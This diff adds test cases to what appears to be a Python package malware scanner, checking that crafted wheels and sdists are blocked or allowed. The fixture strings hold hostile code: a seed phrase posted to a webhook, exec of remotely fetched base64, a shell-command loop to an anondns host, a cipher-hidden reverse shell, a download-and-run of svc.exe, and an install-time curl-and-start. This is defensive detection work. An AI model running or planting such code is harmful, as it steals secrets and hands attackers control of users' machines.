@@ -304,3 +304,130 @@ def test_a_real_tests_directory_with_fake_secrets_is_ordinary(tmp_path: Path) ->
     )
     files = {"sample/__init__.py": "", "tests/test_env.py": source}
     assert _wheel(tmp_path, files) is Decision.ALLOW
+
+
+# -- keys, seeds and passwords handed to a library call --------------------------------------
+
+
+def test_a_seed_phrase_sent_to_a_webhook_from_a_closure_blocks(tmp_path: Path) -> None:
+    source = (
+        "import threading, requests\n"
+        "HOOK = 'https://discord.com/api/webhooks/123456789012345678/abc'\n"
+        "def balance(mnemonic_phrase):\n"
+        "    def _log():\n"
+        "        requests.post(HOOK, json={'m': mnemonic_phrase}, timeout=3)\n"
+        "    threading.Thread(target=_log, daemon=True).start()\n"
+        "    return 0\n"
+    )
+    assert _wheel(tmp_path, {"sample/wallet.py": source}) is Decision.BLOCK
+
+
+def test_a_login_helper_posting_its_password_to_its_api_is_ordinary(tmp_path: Path) -> None:
+    source = (
+        "import requests\n"
+        "def login(username, password):\n"
+        "    return requests.post('https://api.example.com/v1/login',\n"
+        "                         json={'user': username, 'password': password}).json()\n"
+    )
+    assert _wheel(tmp_path, {"sample/client.py": source}) is Decision.ALLOW
+
+
+# -- an address hidden by encoding, a command loop through a helper ------------------------------
+
+
+def test_code_fetched_from_an_encoded_address_and_run_blocks(tmp_path: Path) -> None:
+    url = b"https://api.example.org/socket".hex()
+    source = (
+        "import base64, requests\n"
+        "def indicator():\n"
+        f"    url = bytes.fromhex({url!r}).decode('utf-8')\n"
+        "    message = requests.get(url).json().get('message', '')\n"
+        "    exec(base64.b64decode(message).decode())\n"
+    )
+    assert _wheel(tmp_path, {"sample/core.py": source}) is Decision.BLOCK
+
+
+def test_a_command_loop_through_a_helper_defined_later_blocks(tmp_path: Path) -> None:
+    source = (
+        "import subprocess, time, requests\n"
+        "def debug():\n"
+        "    link = 'https://ba-ace-f.anondns.net/'\n"
+        "    while True:\n"
+        "        resp = requests.get(link).text\n"
+        "        output = runcommand(resp)\n"
+        "        requests.post(link + 'output', data={'o': output})\n"
+        "        time.sleep(1)\n"
+        "def runcommand(value):\n"
+        "    return subprocess.run(value, shell=True, capture_output=True).stdout\n"
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.BLOCK
+
+
+def test_a_cipher_over_the_alphabet_is_peeled(tmp_path: Path) -> None:
+    plain = (
+        'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.4",13851));'
+        'os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);pty.spawn("/bin/sh")'
+    )
+    letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
+    reverse = letters[::-1]
+    hidden = "".join(reverse[letters.index(c)] if c in letters else c for c in plain)
+    source = (
+        "import string\n"
+        "letters = string.ascii_letters\n"
+        "letters_r = letters[::-1]\n"
+        "try:\n"
+        "    exec(''.join([letters_r[letters.index(c)] if c in letters_r else c "
+        f"for c in {hidden!r}]))\n"
+        "except Exception:\n"
+        "    pass\n"
+    )
+    assert _wheel(tmp_path, {"sample/cache.py": source}) is Decision.BLOCK
+
+
+# -- a download in one helper, run by another -----------------------------------------------------
+
+
+def test_a_download_and_a_launch_in_two_helpers_block(tmp_path: Path) -> None:
+    source = (
+        "import os, requests, subprocess\n"
+        "def fetch(url, dest):\n"
+        "    with open(dest, 'wb') as handle:\n"
+        "        handle.write(requests.get(url).content)\n"
+        "def launch(path):\n"
+        "    subprocess.run([path])\n"
+        "def load_and_execute():\n"
+        "    path = os.path.join(os.getenv('APPDATA', '/tmp'), 'svc.exe')\n"
+        "    fetch('http://198.51.100.20:6963/builds/svc.exe', path)\n"
+        "    launch(path)\n"
+        "load_and_execute()\n"
+    )
+    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.BLOCK
+
+
+def test_a_model_download_and_a_git_call_in_two_helpers_are_ordinary(tmp_path: Path) -> None:
+    source = (
+        "import requests, subprocess\n"
+        "def fetch(url, dest):\n"
+        "    with open(dest, 'wb') as handle:\n"
+        "        handle.write(requests.get(url).content)\n"
+        "def revision():\n"
+        "    return subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()\n"
+        "def prepare(cache):\n"
+        "    fetch('https://models.example.com/weights.bin', cache + '/weights.bin')\n"
+        "    return revision()\n"
+    )
+    assert _wheel(tmp_path, {"sample/models.py": source}) is not Decision.BLOCK
+
+
+# -- a command with a variable part keeps its known text -----------------------------------------
+
+
+def test_a_download_command_with_a_variable_path_blocks_at_install(tmp_path: Path) -> None:
+    setup = (
+        "import os, tempfile\n"
+        "out = os.path.join(tempfile.gettempdir(), 'x.png')\n"
+        "cmd = f'curl -s -L https://thanks.example.app/x.png -o {out} && start {out}'\n"
+        "os.system(cmd)\n"
+        "from setuptools import setup\nsetup(name='sample')\n"
+    )
+    assert _sdist(tmp_path, setup) is Decision.BLOCK
